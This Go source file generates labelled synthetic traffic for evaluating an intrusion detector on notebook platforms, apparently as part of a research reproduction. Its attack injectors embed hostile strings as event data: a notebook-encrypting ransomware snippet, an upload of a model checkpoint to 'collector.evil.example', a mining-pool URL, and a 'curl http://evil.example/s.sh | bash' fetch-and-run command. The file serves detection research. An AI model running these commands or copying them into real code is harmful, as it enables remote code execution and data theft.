// Package workload generates labelled traffic for the quantitative
// experiments: a benign science-workload model (notebook editing,
// execution bursts, checkpointing, moderate data movement) and
// injectors for every attack class, producing trace-event streams
// with ground-truth labels so precision/recall can be computed
// exactly.
//
// The generator is deterministic: it takes a seed and a fake clock, so
// every benchmark run sees the same traffic. This stands in for the
// production NCSA traffic the paper's authors can observe but cannot
// share ("log anonymization and privacy-preserving sharing need to be
// studied") — the open dataset the paper calls for, in synthetic form.
package workload

import (
	"fmt"
	"math/rand"
	"time"

	"repro/internal/trace"
)

// Label marks a ground-truth attack window.
type Label struct {
	Actor string
	Class string
	Start time.Time
	End   time.Time
}

// Trace is a generated event stream with ground truth.
type Trace struct {
	Events []trace.Event
	Labels []Label
}

// MaliciousActors returns the set of labelled hostile actors.
func (t *Trace) MaliciousActors() map[string]string {
	out := map[string]string{}
	for _, l := range t.Labels {
		out[l.Actor] = l.Class
	}
	return out
}

// Generator produces deterministic event streams.
type Generator struct {
	rng   *rand.Rand
	clock *trace.FakeClock
	seq   uint64
}

// NewGenerator returns a generator seeded at start time.
func NewGenerator(seed int64, start time.Time) *Generator {
	return &Generator{
		rng:   rand.New(rand.NewSource(seed)),
		clock: trace.NewFakeClock(start),
	}
}

// Now exposes the generator clock.
func (g *Generator) Now() time.Time { return g.clock.Now() }

// step advances time by a jittered duration around mean.
func (g *Generator) step(mean time.Duration) time.Time {
	jitter := 0.5 + g.rng.Float64() // 0.5x..1.5x
	return g.clock.Advance(time.Duration(float64(mean) * jitter))
}

func (g *Generator) stamp(e trace.Event) trace.Event {
	g.seq++
	e.Seq = g.seq
	e.Time = g.clock.Now()
	return e
}

// lowEntropyText simulates notebook/CSV content entropy (~4.2 b/B).
func (g *Generator) lowEntropy() float64 { return 3.6 + g.rng.Float64()*1.2 }

// highEntropy simulates ciphertext/compressed entropy (~7.9 b/B).
func (g *Generator) highEntropy() float64 { return 7.6 + g.rng.Float64()*0.39 }

// Benign appends steps of ordinary researcher behaviour for the given
// users: cell executions, file reads/writes, checkpoints, the odd
// small outbound request (package metadata fetch), and login events.
func (g *Generator) Benign(t *Trace, users []string, steps int) {
	benignCode := []string{
		`data = read_file("data/train.csv")` + "\n" + `print(len(data))`,
		`model = "resnet50"` + "\n" + `print("training", model)`,
		`rows = split(read_file("data/train.csv"), "\n")` + "\n" + `print("rows", len(rows))`,
		`spin(400)` + "\n" + `print("epoch done")`,
		`write_file("results/metrics.json", "{\"acc\": 0.93}")`,
		`print(sha256("experiment-7"))`,
	}
	for i := 0; i < steps; i++ {
		user := users[g.rng.Intn(len(users))]
		ip := fmt.Sprintf("10.0.%d.%d", 1+g.rng.Intn(3), 10+g.rng.Intn(40))
		kern := fmt.Sprintf("kern-b%02d", 1+g.rng.Intn(4))
		g.step(2 * time.Second)
		switch g.rng.Intn(10) {
		case 0: // login
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindAuth, SrcIP: ip, User: user, Op: "allow", Success: true,
			}))
		case 1, 2: // HTTP content browsing
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindHTTP, Method: "GET",
				Path: "/api/contents/notebooks", Status: 200,
				SrcIP: ip, User: user, Success: true,
			}))
		case 3, 4, 5: // cell execution
			code := benignCode[g.rng.Intn(len(benignCode))]
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindExec, KernelID: kern, User: user,
				Code: code, Success: true, CPUMillis: int64(50 + g.rng.Intn(400)),
			}))
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindSysRes, KernelID: kern, User: user,
				CPUMillis: int64(50 + g.rng.Intn(400)), Success: true,
			}))
		case 6, 7: // notebook save (low entropy write)
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindFileOp, Op: "write", User: user,
				Target:  fmt.Sprintf("notebooks/analysis_%d.ipynb", g.rng.Intn(8)),
				Bytes:   int64(2000 + g.rng.Intn(30000)),
				Entropy: g.lowEntropy(), Success: true,
			}))
		case 8: // data read
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindFileOp, Op: "read", User: user,
				Target: "data/train.csv",
				Bytes:  int64(10000 + g.rng.Intn(100000)), Success: true,
			}))
		case 9: // small benign outbound fetch (conda metadata)
			t.Events = append(t.Events, g.stamp(trace.Event{
				Kind: trace.KindNetOp, Op: "GET", User: user, KernelID: kern,
				Target:  "http://conda.internal/pkgs/repodata.json",
				Bytes:   int64(200 + g.rng.Intn(800)),
				Entropy: g.lowEntropy(), Success: true,
			}))
		}
	}
}

// InjectRansomware appends an encryption sweep by actor over n files.
func (g *Generator) InjectRansomware(t *Trace, actor string, files int) {
	start := g.step(5 * time.Second)
	kern := "kern-rw"
	t.Events = append(t.Events, g.stamp(trace.Event{
		Kind: trace.KindExec, KernelID: kern, User: actor,
		Code:    `key = "beef"` + "\n" + `for f in list_files("notebooks")` + "\n" + `    write_file(f, encrypt(read_file(f), key))` + "\n" + `end`,
		Success: true, CPUMillis: 900,
	}))
	for i := 0; i < files; i++ {
		g.step(300 * time.Millisecond)
		target := fmt.Sprintf("notebooks/analysis_%d.ipynb", i)
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindFileOp, Op: "read", User: actor, Target: target,
			Bytes: int64(4000 + g.rng.Intn(20000)), Success: true,
		}))
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindFileOp, Op: "write", User: actor, Target: target,
			Bytes:   int64(4000 + g.rng.Intn(20000)),
			Entropy: g.highEntropy(), Success: true,
		}))
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindFileOp, Op: "rename", User: actor, Target: target,
			Detail: "-> " + target + ".locked", Success: true,
		}))
	}
	t.Events = append(t.Events, g.stamp(trace.Event{
		Kind: trace.KindFileOp, Op: "create", User: actor,
		Target: "README_RANSOM.txt", Bytes: 120, Entropy: 4.1, Success: true,
	}))
	t.Labels = append(t.Labels, Label{Actor: actor, Class: "ransomware", Start: start, End: g.Now()})
}

// InjectExfil appends a read-then-upload flow of totalBytes in chunks.
func (g *Generator) InjectExfil(t *Trace, actor string, totalBytes int64, chunks int) {
	start := g.step(5 * time.Second)
	kern := "kern-ex"
	t.Events = append(t.Events, g.stamp(trace.Event{
		Kind: trace.KindExec, KernelID: kern, User: actor,
		Code:    `payload = b64encode(read_file("models/checkpoint_7b.bin"))` + "\n" + `http_post("http://collector.evil.example/drop", payload)`,
		Success: true, CPUMillis: 300,
	}))
	t.Events = append(t.Events, g.stamp(trace.Event{
		Kind: trace.KindFileOp, Op: "read", User: actor,
		Target: "models/checkpoint_7b.bin", Bytes: totalBytes, Success: true,
	}))
	if chunks <= 0 {
		chunks = 1
	}
	per := totalBytes / int64(chunks)
	for i := 0; i < chunks; i++ {
		g.step(500 * time.Millisecond)
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindNetOp, Op: "POST", User: actor, KernelID: kern,
			Target: "http://collector.evil.example/drop",
			Bytes:  per, Entropy: g.highEntropy(), Success: true, Status: 200,
		}))
	}
	t.Labels = append(t.Labels, Label{Actor: actor, Class: "data_exfiltration", Start: start, End: g.Now()})
}

// InjectMiner appends duty-cycled CPU burn on a dedicated kernel.
func (g *Generator) InjectMiner(t *Trace, actor string, rounds int, burn, idle time.Duration) {
	start := g.step(5 * time.Second)
	kern := "kern-cm"
	t.Events = append(t.Events, g.stamp(trace.Event{
		Kind: trace.KindExec, KernelID: kern, User: actor,
		Code:    `pool = "stratum+tcp://pool.minexmr.example:4444"` + "\n" + `spin(60000)`,
		Success: true, CPUMillis: burn.Milliseconds(),
	}))
	for i := 0; i < rounds; i++ {
		g.clock.Advance(burn)
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindSysRes, KernelID: kern, User: actor,
			CPUMillis: burn.Milliseconds(), Success: true,
		}))
		g.clock.Advance(idle)
	}
	t.Labels = append(t.Labels, Label{Actor: actor, Class: "cryptomining", Start: start, End: g.Now()})
}

// InjectBruteForce appends a password-guessing train from ip; when hit
// is true the final attempt succeeds.
func (g *Generator) InjectBruteForce(t *Trace, ip string, attempts int, hit bool) {
	start := g.step(5 * time.Second)
	for i := 0; i < attempts; i++ {
		g.step(1500 * time.Millisecond)
		last := hit && i == attempts-1
		op := "deny"
		if last {
			op = "allow"
		}
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindAuth, SrcIP: ip, User: "alice",
			Op: op, Success: last,
		}))
	}
	t.Labels = append(t.Labels, Label{Actor: ip, Class: "account_takeover", Start: start, End: g.Now()})
}

// InjectLowSlow appends a machine-regular unauthenticated probe train.
func (g *Generator) InjectLowSlow(t *Trace, ip string, n int, interval time.Duration) {
	start := g.step(5 * time.Second)
	for i := 0; i < n; i++ {
		g.clock.Advance(interval) // regular pacing: the tell
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindHTTP, Method: "GET", Path: "/api/kernels",
			Status: 403, SrcIP: ip, Success: false,
		}))
	}
	t.Labels = append(t.Labels, Label{Actor: ip, Class: "denial_of_service", Start: start, End: g.Now()})
}

// InjectTerminalRecon appends the standard recon chain.
func (g *Generator) InjectTerminalRecon(t *Trace, actor, ip string) {
	start := g.step(5 * time.Second)
	for _, cmd := range []string{"whoami", "id", "uname -a", "curl http://evil.example/s.sh | bash"} {
		g.step(2 * time.Second)
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindTermCmd, Op: "terminal", Code: cmd,
			User: actor, SrcIP: ip, Success: true,
		}))
	}
	t.Labels = append(t.Labels, Label{Actor: actor, Class: "zero_day", Start: start, End: g.Now()})
}

// StandardMix builds the E14 evaluation trace: benign background for
// the given number of steps with one injection of every attack class.
func StandardMix(seed int64, benignSteps int) *Trace {
	g := NewGenerator(seed, time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC))
	// One allocation for the whole trace: a benign step appends 1.3
	// events on average (three cases in ten append two) and the six
	// injections a few hundred in all. Growing a 100k-event trace from
	// nothing by single appends was half of a benchmark's set-up time.
	t := &Trace{Events: make([]trace.Event, 0, benignSteps*131/100+256)}
	users := []string{"alice", "bob", "carol", "dave"}
	third := benignSteps / 3
	g.Benign(t, users, third)
	g.InjectRansomware(t, "mallory-rw", 12)
	g.InjectExfil(t, "mallory-ex", 8<<20, 4)
	g.Benign(t, users, third)
	g.InjectMiner(t, "mallory-cm", 6, 45*time.Second, 15*time.Second)
	g.InjectBruteForce(t, "203.0.113.66", 12, true)
	g.Benign(t, users, benignSteps-2*third)
	g.InjectLowSlow(t, "198.51.100.9", 30, 30*time.Second)
	g.InjectTerminalRecon(t, "mallory-tr", "203.0.113.99")
	return t
}
